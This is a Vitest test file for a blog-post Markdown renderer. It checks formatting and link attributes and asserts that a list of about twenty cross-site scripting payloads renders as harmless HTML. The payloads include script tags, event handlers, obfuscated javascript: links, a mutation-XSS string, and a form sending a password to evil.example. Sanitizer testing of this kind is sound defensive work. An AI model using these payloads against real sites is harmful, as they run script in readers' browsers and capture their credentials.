import { expect, test } from 'vitest';
import { renderPost } from './render-post.ts';

test('a post can have paragraphs, headings, lists, quotes and emphasis', () => {
  expect(renderPost('## Before\n\nCount *all* of it.\n\n- rent\n- school\n\n> Ask us.')).toBe(
    '<h2>Before</h2>\n<p>Count <em>all</em> of it.</p>\n<ul>\n<li>rent</li>\n<li>school</li>\n</ul>\n<blockquote>\n<p>Ask us.</p>\n</blockquote>\n',
  );
});

test('the title is the only main heading of the page', () => {
  expect(renderPost('# One\n\n###### Six')).toBe('<h2>One</h2>\n<h3>Six</h3>\n');
});

test('a link to another site opens in a new tab and sends no referrer', () => {
  expect(renderPost('[Bank](https://sbp.org.pk)')).toBe(
    '<p><a href="https://sbp.org.pk" target="_blank" rel="noopener noreferrer nofollow">Bank</a></p>\n',
  );
  expect(renderPost('[receipt](/r/AB12)')).toBe('<p><a href="/r/AB12">receipt</a></p>\n');
});

/** Attacks on the reader of a post. */
const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">win</a>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<form action="https://evil.example"><input name=password></form>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '[win](javascript:alert(1))',
  '[win](JaVaScRiPt:alert(1))',
  '[win](&#106;avascript:alert(1))',
  '[win](data:text/html;base64,PHNjcmlwdD4=)',
  '[win](vbscript:msgbox(1))',
  '[win](//evil.example)',
  '[win]: javascript:alert(1)\n\n[win]',
  '<javascript:alert(1)>',
  '![cover](https://evil.example/track.gif)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[a](https://example.pk "\\" onmouseover=alert(1) x=\\"")',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
];

/** Only the elements of a post, without attributes except those of a safe link. */
const harmless =
  /^(?:[^<>]|<\/?(?:p|h2|h3|ul|ol|li|blockquote|strong|em|code)>|<br \/>|<hr \/>|<a(?: href="(?:https?:\/\/|mailto:|tel:|\/(?!\/))[^"<>]*")?(?: target="_blank" rel="noopener noreferrer nofollow")?>|<\/a>)*$/;

test.each(attacks)('%s does not harm a reader', (attack) => {
  expect(renderPost(attack)).toMatch(harmless);
  expect(renderPost(`Before\n\n${attack}\n\nafter`)).toMatch(/^<p>Before<\/p>[\s\S]*after/);
});

test('no picture is loaded from another site', () => {
  expect(renderPost('![cover](https://evil.example/track.gif)')).not.toContain('<img');
});
